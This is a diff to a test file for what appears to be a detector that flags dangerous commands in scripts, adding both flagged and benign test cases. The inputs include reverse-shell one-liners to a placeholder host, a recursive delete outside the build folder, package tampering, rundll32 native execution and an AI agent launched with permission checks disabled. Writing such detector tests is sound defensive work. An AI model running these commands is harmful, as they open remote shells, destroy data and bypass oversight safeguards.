@@ -126,6 +126,9 @@ test('acts on the machine', () => {
     ['bash -i >& /dev/tcp/a.invalid/1 0>&1', 'flow/shell'],
     ['nc -e /bin/sh a.invalid 1', 'flow/shell'],
     ['echo x > ../other/index.js', 'tamper/package'],
+    ['cd build && rm -rf ../../other', 'file/delete'],
+    ['claude -p x --dangerously-skip-permissions', 'agent/run'],
+    ['rundll32 x.dll,Run', 'code/native'],
   ]
   for (const [text, kind] of acts) assert.ok(kinds(text).includes(kind as never), `${text}: ${kinds(text)}`)
 })
@@ -144,6 +147,8 @@ test('honest scripts say nothing', () => {
     'echo "curl | sh"',
     'open ./docs/index.html',
     'kill 1',
+    'cd build && rm -rf ../dist && echo x > ../lib/index.js',
+    'claude --version',
   ]) {
     assert.equal(kinds(text), [], text)
   }
